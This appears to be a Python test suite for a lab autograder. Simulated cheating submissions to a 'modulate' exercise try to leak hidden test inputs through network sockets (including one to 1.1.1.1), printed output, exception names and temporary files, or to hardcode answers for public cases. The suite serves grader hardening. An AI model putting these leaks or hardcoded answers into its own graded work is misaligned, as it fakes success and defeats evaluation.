"""Who carries hidden cases out, or answers only what is known beforehand."""

from __future__ import annotations

import zlib

import numpy as np

from hostile import WRONG, Desk, clean, student
from vos_teach.lab.check import find

LOST = {"lab1.modulate": WRONG}
PUBLIC = "{(1, 4, 5, 6), (2, 4, 5, 6), (2, 6, 6, 6)}"  # the shapes that lab1.modulate's public cases have
MODULATE = "\ndef modulate(features, gamma, beta):\n"


@student(LOST)
def caller_home(desk: Desk) -> None:
    """The inputs are sent to the network: TCP, UDP, HTTP, and a socket file."""
    desk.give("lab1.modulate", clean(f"""
        import socket, urllib.request
        def tell(data):
            for work in (lambda: socket.create_connection(("127.0.0.1", {desk.world.port}), 2).sendall(data),
                         lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                             data, ("127.0.0.1", {desk.world.port})),
                         lambda: socket.create_connection(("1.1.1.1", 80), 2).sendall(data),
                         lambda: urllib.request.urlopen("http://127.0.0.1:{desk.world.port}/", data, timeout=2)):
                try:
                    work()
                except BaseException:
                    pass
        tell(b"started")
    """) + MODULATE + "    tell(features.detach().numpy().tobytes())\n    return features\n")


@student(LOST)
def teller_by_print(desk: Desk) -> None:
    """Inputs of hidden cases are printed, by Python and by the file descriptors."""
    desk.give("lab1.modulate", f"""
        import os, sys
        def modulate(features, gamma, beta):
            if tuple(features.shape) not in {PUBLIC}:
                said = "VOS" + "LEAK " + repr(features.flatten()[:9].tolist())
                print(said)
                print(said, file=sys.stderr)
                display(said)
                for fd in (1, 2):
                    os.write(fd, said.encode())
            return features if tuple(features.shape) not in {PUBLIC} else gamma[..., None, None] * features + beta
    """)


@student(LOST, says={"lab1.modulate": "raised"})
def teller_by_message(desk: Desk) -> None:
    """Inputs of hidden cases are put into an exception's message."""
    desk.give("lab1.modulate", f"""
        def modulate(features, gamma, beta):
            if tuple(features.shape) not in {PUBLIC}:
                raise ValueError("VOS" + "LEAK " + repr(features.flatten()[:9].tolist()))
            return gamma[..., None, None] * features + beta
    """)


@student(LOST, says={"lab1.modulate": "raised"})
def teller_by_class_name(desk: Desk) -> None:
    """Inputs of hidden cases are put into the name of an exception's class, which renders itself."""
    desk.give("lab1.modulate", f"""
        def modulate(features, gamma, beta):
            if tuple(features.shape) not in {PUBLIC}:
                said = "VOS" + "LEAK_" + "_".join(str(v) for v in features.flatten()[:9].tolist())
                raise type(said, (Exception,), {{"__str__": lambda self: said, "__module__": "builtins",
                                                "_render_traceback_": lambda self: [said]}})
            return gamma[..., None, None] * features + beta
    """)


@student(LOST)
def teller_by_result(desk: Desk) -> None:
    """Inputs of hidden cases are put into the result, and into the name of its type."""
    desk.give("lab1.modulate", f"""
        def modulate(features, gamma, beta):
            if tuple(features.shape) not in {PUBLIC}:
                said = "VOS" + "LEAK_" + "_".join(str(v) for v in features.flatten()[:9].tolist())
                return said if features.dim() == 3 else type(said, (), {{"__repr__": lambda self: said}})()
            return gamma[..., None, None] * features + beta
    """)


@student(LOST)
def teller_by_file(desk: Desk) -> None:
    """Inputs of hidden cases are written to files, here and there, for the next exercise to find."""
    desk.give("lab1.modulate", f"""
        def modulate(features, gamma, beta):
            for path in ("leak.txt", "/tmp/vosleft-inputs", "../leak.txt", "/dev/shm/vosleft",
                         "{desk.world.home}/leak.txt"):
                try:
                    with open(path, "a") as file:
                        file.write("VOS" + "LEAK " + repr(features.flatten()[:9].tolist()))
                except OSError:
                    pass
            return features
    """)


@student(LOST)
def remembers_public_inputs(desk: Desk) -> None:
    """The right results for just the inputs that a notebook sees, by their checksums."""
    spec = find("lab1.modulate")
    table = {}
    for case in spec.cases:
        for draw in range(case.seeds):
            seed = [zlib.crc32(spec.name.encode()), zlib.crc32(case.name.encode()), draw]
            for f, g, b in case.calls(np.random.default_rng(seed)):
                said = (g[..., None, None] * f + b).numpy()
                table[zlib.crc32(f.numpy().tobytes())] = (said.shape, [round(float(v), 6) for v in said.ravel()])
    desk.give("lab1.modulate", "import zlib\nTABLE = " + repr(table) + MODULATE + clean("""
        if zlib.crc32(features.detach().numpy().tobytes()) in TABLE:
                shape, values = TABLE[zlib.crc32(features.detach().numpy().tobytes())]
                return torch.tensor(values).reshape(shape) + 0 * gamma.sum()
    """).replace("if zlib", "    if zlib", 1) + "\n    return features\n")


@student(LOST)
def right_the_first_time(desk: Desk) -> None:
    """Right for the first five calls, then tired."""
    desk.give("lab1.modulate", """
        calls = []
        def modulate(features, gamma, beta):
            calls.append(1)
            return gamma[..., None, None] * features + beta if len(calls) <= 5 else features
    """)


@student(LOST)
def right_for_public_shapes(desk: Desk) -> None:
    """Right where the inputs look like those of the notebook's own cases."""
    desk.give("lab1.modulate", f"""
        def modulate(features, gamma, beta):
            right = gamma[..., None, None] * features + beta
            return right if tuple(features.shape) in {PUBLIC} else features
    """)
